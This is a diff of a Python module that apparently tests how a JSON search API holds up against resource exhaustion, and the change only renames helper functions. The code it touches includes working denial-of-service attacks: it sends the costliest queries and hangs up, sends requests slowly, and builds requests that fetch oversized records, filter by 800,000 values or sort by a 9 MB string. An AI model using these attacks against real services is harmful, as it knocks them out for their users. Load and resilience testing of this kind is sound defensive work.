@@ -42,7 +42,7 @@ class Attack:
 
 
 @cache
-def worst_questions(rows: int) -> list[dict[str, Any]]:
+def build_worst_queries(rows: int) -> list[dict[str, Any]]:
     """
     List the parameters of the most expensive searches in a table of this size.
 
@@ -64,23 +64,23 @@ def worst_questions(rows: int) -> list[dict[str, Any]]:
     ]
 
 
-def _question(client: Client, turn: int) -> bytes:
-    questions = worst_questions(client.target.rows)
-    return _body(client.target.table, **questions[turn % len(questions)])
+def _build_query(client: Client, turn: int) -> bytes:
+    questions = build_worst_queries(client.target.rows)
+    return _build_body(client.target.table, **questions[turn % len(questions)])
 
 
-def _body(table: str, **parameters: Any) -> bytes:
+def _build_body(table: str, **parameters: Any) -> bytes:
     return json.dumps({"resource_id": table, **parameters}).encode()
 
 
 def ask_and_hang_up(client: Client) -> str:
     """Send the client's own expensive query, and do not wait for the answer."""
-    return client.ask_and_hang_up(_SEARCH, _question(client, client.number), _HANG_UP_SECONDS)
+    return client.ask_and_hang_up(_SEARCH, _build_query(client, client.number), _HANG_UP_SECONDS)
 
 
 def ask_and_wait(client: Client) -> str:
     """Send the client's own expensive query."""
-    return client.ask("POST", _SEARCH, _question(client, client.number), **_JSON)
+    return client.ask("POST", _SEARCH, _build_query(client, client.number), **_JSON)
 
 
 # Slowness -----------------------------------------------------------------------------------------
@@ -104,7 +104,7 @@ def send_slowly(client: Client) -> str:
 
 def ask_for_fat_records(client: Client) -> str:
     """Request 1,000 records of 110 kB."""
-    body = _body(client.target.fat_table, limit=1_000)
+    body = _build_body(client.target.fat_table, limit=1_000)
     return client.ask("POST", _SEARCH, body, **_JSON)
 
 
@@ -129,23 +129,25 @@ def upload(client: Client) -> str:
 
 def filter_by_many_values(client: Client) -> str:
     """Filter by 800,000 values."""
-    return client.ask("POST", _SEARCH, _many_values(client.target), **_JSON)
+    return client.ask("POST", _SEARCH, _build_many_values(client.target), **_JSON)
 
 
 def sort_by_much(client: Client) -> str:
     """Sort by a text of 9 MB."""
-    return client.ask("POST", _SEARCH, _long_sort(client.target), **_JSON)
+    return client.ask("POST", _SEARCH, _build_long_sort(client.target), **_JSON)
 
 
 @cache
-def _many_values(target: Target) -> bytes:
-    return _body(target.table, filters={"Package": [f"p{number}" for number in range(800_000)]})
+def _build_many_values(target: Target) -> bytes:
+    return _build_body(
+        target.table, filters={"Package": [f"p{number}" for number in range(800_000)]}
+    )
 
 
 @cache
-def _long_sort(target: Target) -> bytes:
+def _build_long_sort(target: Target) -> bytes:
     key = "Package, "
-    return _body(target.table, sort=key * (9 * 10**6 // len(key)) + "Package")
+    return _build_body(target.table, sort=key * (9 * 10**6 // len(key)) + "Package")
 
 
 ATTACKS = {
